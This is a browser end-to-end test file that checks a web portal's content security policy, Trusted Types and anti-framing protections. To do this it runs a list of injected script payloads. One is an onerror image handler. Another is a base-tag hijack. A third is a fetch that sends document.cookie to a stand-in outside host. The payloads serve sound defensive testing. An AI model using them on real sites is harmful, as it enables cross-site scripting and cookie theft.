import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { heading } from './support/driver';
import { expect, origins, test } from './support/portal';

/** What an attacker would try whose markup got past the sanitiser: only the policy prevents it. */
const planted: readonly (readonly [what: string, script: string])[] = [
  ['an inline script', "const s = document.createElement('script'); s.append('top.ran = 1'); document.head.append(s)"],
  [
    'a script from elsewhere',
    "const s = document.createElement('script'); s.setAttribute('src', '/elsewhere/x.js'); document.head.append(s)",
  ],
  [
    'an event handler',
    "const b = document.createElement('button'); b.setAttribute('onclick', 'top.ran = 1'); document.body.append(b); b.click()",
  ],
  ['a text as markup', "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"top.ran = 1\">')"],
  ['a text as code', "setTimeout('top.ran = 1')"],
  [
    'a base',
    "const b = document.createElement('base'); b.href = 'https://elsewhere.invalid/'; document.head.prepend(b)",
  ],
  [
    'a frame',
    "const f = document.createElement('iframe'); f.src = 'https://elsewhere.invalid/'; document.body.append(f)",
  ],
  [
    'an object',
    "const o = document.createElement('object'); o.data = 'https://elsewhere.invalid/'; document.body.append(o)",
  ],
  [
    'a style sheet from elsewhere',
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://elsewhere.invalid/x.css'; document.head.append(l)",
  ],
  [
    'a call to elsewhere',
    "fetch('https://elsewhere.invalid/', { method: 'POST', body: document.cookie }).catch(() => {})",
  ],
  [
    'a form to elsewhere',
    "const f = document.createElement('form'); f.method = 'post'; f.action = 'https://elsewhere.invalid/'; document.body.append(f); f.submit()",
  ],
];

test('the content security policy blocks everything planted into the page, and the page is unchanged (SEC-32, SEC-33)', async ({
  page,
  problems,
}) => {
  problems.expect(
    /^content policy: /,
    /^console: .*(?:Content Security Policy|Trusted ?(?:HTML|Script|Types))/i,
    /^uncaught: .*Trusted|TypeError: .*TrustedHTML/,
  );
  const unblockedRequests: string[] = [];
  // A request that the policy blocks fails with `csp`. Any other error means that it was sent.
  page.on('requestfailed', (request) => {
    if (request.url().includes('elsewhere') && request.failure()?.errorText !== 'csp')
      unblockedRequests.push(request.url());
  });
  await page.goto('/login');
  await expect(heading(page, 'Sign in')).toBeVisible();
  const breaches = () => problems.expected.length;
  const thrown: string[] = [];
  for (const [what, script] of planted) {
    const before = breaches();
    // Trusted Types throw when text would become markup or code. Everything else has no effect.
    await page.evaluate(script.replace('/elsewhere/', 'https://elsewhere.invalid/')).catch((error: unknown) => {
      expect(String(error)).toContain('Trusted');
      thrown.push(what);
    });
    await expect.poll(breaches, what).toBeGreaterThan(before);
  }
  // Checked by name, because the other rules would also block its content.
  expect(thrown).toContain('a text as markup');
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  expect(await page.evaluate(() => document.baseURI)).toBe(`${origins().portal}/login`);
  expect(unblockedRequests).toEqual([]);
  expect(await page.evaluate(() => document.querySelector('h1')?.textContent)).toBe('Sign in');
});

test('other sites cannot frame the portal, or reach into a window that it opened (SEC-35)', async ({
  page,
  problems,
}) => {
  problems.expect(/frame-ancestors|X-Frame-Options|Framing/i, /Cross-Origin-Opener-Policy/i);
  const { portal } = origins();
  const server = createServer((_request, response) => {
    response
      .setHeader('content-type', 'text/html')
      .end(`<!doctype html><title>Elsewhere</title><iframe src="${portal}/login"></iframe>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  try {
    await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
    await expect.poll(() => page.frames().at(1)?.url()).toMatch(/^chrome-error:|^about:blank/);
    expect(await page.frames().at(1)?.getByRole('heading').count()).toBe(0);
    const [opened] = await Promise.all([
      page.waitForEvent('popup'),
      page.evaluate((address) => void window.open(address, 'portal'), `${portal}/login`),
    ]);
    await expect(heading(opened, 'Sign in')).toBeVisible();
    expect(await opened.evaluate(() => window.opener)).toBeNull();
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
});
